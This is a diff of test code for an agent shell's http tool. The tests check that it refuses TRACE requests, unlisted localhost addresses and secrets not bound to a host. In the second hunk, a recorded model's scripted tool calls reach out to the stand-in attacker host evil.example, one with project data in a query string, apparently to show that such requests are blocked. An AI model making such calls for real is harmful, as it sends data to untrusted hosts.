@@ -31,8 +31,8 @@ def test_a_page_on_the_command_line(agentsh: Program, server: Site) -> None:
     assert (told["exit_code"], told["stdout"], told["action"]["status"]) == (1, "no such page", "done")
     assert told["stderr"].startswith("HTTP 404 Not Found")
 
-    refused = agentsh("http", "POST", f"{server.url}/a", code=3)
-    assert b"GET alone" in refused.stderr
+    refused = agentsh("http", "TRACE", f"{server.url}/a", code=3)
+    assert b"TRACE is not sent" in refused.stderr
     refused = agentsh("http", "GET", "http://127.0.0.1:1/", code=3)
     assert b"[http] allow" in refused.stderr
     assert b"bound to no host" in agentsh("http", "GET", server.url, "--secret", "TOKEN", code=3).stderr
@@ -72,7 +72,7 @@ def test_a_recorded_model_reads_a_page_and_writes_what_it_read(agentsh: Program,
         {"tool_calls": [{"name": "http", "arguments": {"url": f"{server.url}/version"}}]},
         {
             "tool_calls": [
-                {"name": "http", "arguments": {"url": "http://evil.example/", "method": "POST"}},
+                {"name": "http", "arguments": {"url": "http://evil.example/", "method": "TRACE"}},
                 {"name": "http", "arguments": {"url": "http://evil.example/?q=project"}},
                 {"name": "write", "arguments": {"path": "VERSION", "content": "3.14\n"}},
             ],
